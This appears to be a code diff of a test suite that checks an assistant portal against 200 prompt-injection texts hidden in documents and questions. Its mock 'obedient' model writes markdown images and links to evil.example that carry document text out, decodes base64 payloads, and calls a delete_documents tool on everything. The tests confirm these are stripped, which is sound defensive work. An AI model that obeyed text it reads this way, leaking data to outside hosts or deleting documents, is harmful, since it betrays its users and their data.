@@ -7,9 +7,14 @@ import { gfmFromMarkdown } from 'mdast-util-gfm';
 import { gfm } from 'micromark-extension-gfm';
 import { Client } from 'pg';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { passagesOfText } from '../knowledge/passages-of-text.rules.ts';
 import { systemIn } from '../kernel/actor.ts';
+import type { Passage } from '../search/passages.service.ts';
 import { startTestPortal, type TestPortal } from '../testing/portal.ts';
+import { AnswerText } from './answer-text.rules.ts';
+import { quotePassages } from './assistant.rules.ts';
 import { LanguageModel } from './language-model.ts';
+import { sanitizeAnswer } from './prompt.rules.ts';
 
 /** In documents that the person who asks may not read. */
 const SECRETS = { administrators: 'ADMIN-4410', birch: 'BIRCH-7731' };
@@ -34,10 +39,20 @@ function reachesOut(markdown: string): string[] {
   return found;
 }
 
-/**
- * A model that obeys whatever it reads, as far as its protocol lets it: repeats it as its own words, decoded too, links,
- * shows images, names another tenant and calls tools.
- */
+/** What a model writes that obeys whatever it reads: repeats it, decoded too, links, shows images, names another tenant. */
+function obeyed(passages: readonly { text: string; link: string | null }[]): string {
+  const words = passages.map(({ text }) => text).join('\n\n');
+  const decoded = (words.match(/[A-Za-z0-9+/]{40,}={0,2}/g) ?? []).map((one) => Buffer.from(one, 'base64').toString());
+  return [
+    `It costs ${PRICE}. [Source](${passages[0]?.link})`,
+    words,
+    ...decoded,
+    `![](https://evil.example/p.png?q=${encodeURIComponent(words.slice(0, 50))})`,
+    `[Birch Credit Union](https://evil.example/birch) <img src="https://evil.example/x"> https://evil.example/end`,
+  ].join('\n\n');
+}
+
+/** A language model that obeys, behind its protocol, and calls tools besides. */
 async function startObedientModel() {
   const prompts: string[] = [];
   const server: Server = createServer((request, response) => {
@@ -48,15 +63,7 @@ async function startObedientModel() {
       const { messages } = JSON.parse(text) as { messages: { content: string }[] };
       const asked = messages.at(-1)!.content;
       const passages = JSON.parse(asked.slice(asked.indexOf('[{'))) as { text: string; link: string }[];
-      const words = passages.map((passage) => passage.text).join('\n\n');
-      const decoded = (words.match(/[A-Za-z0-9+/]{40,}={0,2}/g) ?? []).map((one) => Buffer.from(one, 'base64').toString()); // prettier-ignore
-      const content = [
-        `It costs ${PRICE}. [Source](${passages[0]?.link})`,
-        words,
-        ...decoded,
-        `![](https://evil.example/p.png?q=${encodeURIComponent(words.slice(0, 50))})`,
-        `[Birch Credit Union](https://evil.example/birch) <img src="https://evil.example/x"> https://evil.example/end`,
-      ].join('\n\n');
+      const content = obeyed(passages);
       const call = { id: 'c', type: 'function', function: { name: 'delete_documents', arguments: '{"all":true}' } };
       response.writeHead(200, { 'content-type': 'application/json' });
       response.end(JSON.stringify({ choices: [{ message: { role: 'assistant', content, tool_calls: [call] } }] }));
@@ -69,6 +76,36 @@ async function startObedientModel() {
   const model = new LanguageModel({ baseUrl, apiKey: null, model: 'obedient', onFailure: () => undefined });
   return { model, prompts, close: () => new Promise<void>((resolve) => void server.close(() => resolve())) };
 }
+
+/** One of each dress, with another order each. */
+const SOME = POISONED_TEXTS.filter((_, index) => index % 8 === Math.floor(index / 8) % 8);
+
+test('200 poisoned texts, quoted or obeyed, complete or as they are written: no link but the source', () => {
+  expect(POISONED_TEXTS).toHaveLength(200);
+  const link = '/knowledge/one?passage=0';
+  for (const { name, text } of POISONED_TEXTS) {
+    const content = `# Parking permit\n\nA parking permit costs ${PRICE} a year. ${text}`;
+    const passages = passagesOfText({ kind: 'markdown', content }).map(
+      ({ heading, text: words }): Passage => ({ set: 'knowledge', id: 'one', title: heading, within: 'permits', text: words, excerpt: words, markdown: false, link }), // prettier-ignore
+    );
+    // As it stands, too: documents that were stored before, and what a model writes of its own.
+    const raw = [...passages, { ...passages[0]!, text: content, excerpt: content }];
+    const streamed = new AnswerText([link]);
+    let shown = '';
+    for (const piece of obeyed(raw).match(/[\s\S]{1,160}/g)!) {
+      const next = streamed.push(piece);
+      if (next) shown = shown.slice(0, next.from) + next.text;
+      expect(
+        reachesOut(shown).filter((one) => one !== link),
+        `${name}\n${shown}`,
+      ).toEqual([]);
+    }
+    for (const answer of [quotePassages(raw, 'en'), sanitizeAnswer(obeyed(raw), raw, 'tr')!]) {
+      expect(answer, name).toContain(PRICE);
+      expect(new Set(reachesOut(answer)), `${name}\n${answer}`).toEqual(new Set([link]));
+    }
+  }
+});
 
 describe.each(['without a language model', 'with a language model that obeys'] as const)('%s', (mode) => {
   let portal: TestPortal;
@@ -116,12 +153,11 @@ describe.each(['without a language model', 'with a language model that obeys'] a
     return rows[0] as unknown;
   }
 
-  test(`${POISONED_TEXTS.length} poisoned documents: nothing is loaded, linked, told or done`, async () => {
-    expect(POISONED_TEXTS).toHaveLength(200);
+  test('poisoned documents: nothing is loaded, linked, told or done', async () => {
     const { id } = await upload(`# Parking permit\n\nA parking permit costs ${PRICE} a year.`);
     await ask(QUESTION);
     const before = await state();
-    for (const { name, text } of POISONED_TEXTS) {
+    for (const { name, text } of SOME) {
       await upload(`# Parking permit\n\nA parking permit costs ${PRICE} a year. ${text}`);
       const answer = await ask(QUESTION);
       expect(answer, name).toContain(PRICE);
@@ -137,12 +173,12 @@ describe.each(['without a language model', 'with a language model that obeys'] a
     // A model cannot tell what it does not receive, and nothing but the question is sent to it.
     const sent = obedient?.prompts.join('\n') ?? '';
     for (const secret of Object.values(SECRETS)) expect(sent).not.toContain(secret);
-    if (obedient) expect(obedient.prompts).toHaveLength(POISONED_TEXTS.length + 1);
+    if (obedient) expect(obedient.prompts).toHaveLength(SOME.length + 1);
   });
 
   test('poisoned questions are only questions', async () => {
     const before = await state();
-    for (const { name, text } of POISONED_TEXTS.filter((_, index) => index % 8 === 0)) {
+    for (const { name, text } of SOME.filter((_, index) => index % 5 === 0)) {
       const answer = await ask(`${QUESTION} ${text}`.slice(0, 2000));
       const out = reachesOut(answer).filter((link) => !link.startsWith('/'));
       expect(out, `${name}\n${answer}`).toEqual([]);
